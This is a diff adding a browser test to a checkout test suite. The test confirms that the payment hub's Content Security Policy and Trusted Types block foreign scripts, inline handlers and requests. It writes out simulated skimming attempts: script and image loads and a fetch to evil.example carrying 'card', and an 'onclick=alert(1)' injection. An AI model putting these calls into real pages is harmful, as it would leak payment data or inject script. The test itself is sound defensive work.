@@ -213,3 +213,26 @@ test('sandbox="true" opens no form at a hub where real money moves', async (t) =
   await until(inFrame(page), "choose");
   assert.deepEqual(await booked(order), []);
 });
+
+test("what does not belong to the hub's page is not loaded, not run, and reported", async (t) => {
+  const { page } = await shopper(t, { expects: ["Content Security Policy", "requires 'Trusted", "This document requires"] });
+  const order = await session();
+  await openLink(page, order);
+  const reported = page.waitForRequest((request) => request.url().endsWith("/checkout/reports"));
+  const tries = await page.evaluate(async () => {
+    const script = document.createElement("script");
+    const named = (work) => Promise.resolve().then(work).then(() => "done", (error) => error.name);
+    document.body.append(Object.assign(new Image(), { src: "https://evil.example/card.gif" }));
+    return [
+      await named(() => (script.src = "https://evil.example/card.js")),
+      await named(() => (script.textContent = "window.ran = true")),
+      await named(() => (document.body.innerHTML = "<p onclick=alert(1)>")),
+      await named(() => fetch("https://evil.example/?card")),
+    ];
+  });
+  assert.deepEqual(tries, ["TypeError", "TypeError", "TypeError", "TypeError"]);
+  const report = (await reported).postData() ?? "";
+  assert.ok(!report.includes(order.publicKey));
+  assert.equal(await page.evaluate(() => window.ran), undefined);
+  assert.deepEqual(await booked(order), []);
+});
